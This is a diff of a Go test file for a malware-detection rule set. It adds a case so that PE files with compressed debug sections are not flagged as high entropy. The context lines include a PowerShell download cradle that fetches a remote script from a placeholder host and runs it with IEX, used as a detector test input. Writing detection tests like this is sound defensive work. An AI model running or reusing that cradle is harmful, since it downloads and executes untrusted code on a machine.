@@ -70,6 +70,9 @@ func TestBuiltinRules(t *testing.T) {
 		{"upx", tinyPE(peSection{"UPX0", zeros[:512]}, peSection{"UPX1", zeros}), []string{"upx_packed_pe"}},
 		{"high entropy section", tinyPE(peSection{".text", zeros}, peSection{".data", random}), []string{"pe_high_entropy_section"}},
 		{"small high entropy section", tinyPE(peSection{".data", random[:1024]}), nil},
+		// Go and MinGW builds carry compressed DWARF: named .zdebug_*, or
+		// "/N" when the name is long (found on a Go build's page).
+		{"compressed debug sections", tinyPE(peSection{".text", zeros}, peSection{".zdebug", random}, peSection{"/19", random}), nil},
 		{"embedded pe", append([]byte("%PDF-1.7 junk "), tinyPE(peSection{".text", zeros})...), []string{"embedded_pe"}},
 		{"download cradle", []byte(`powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"`),
 			[]string{"powershell_download_cradle"}},
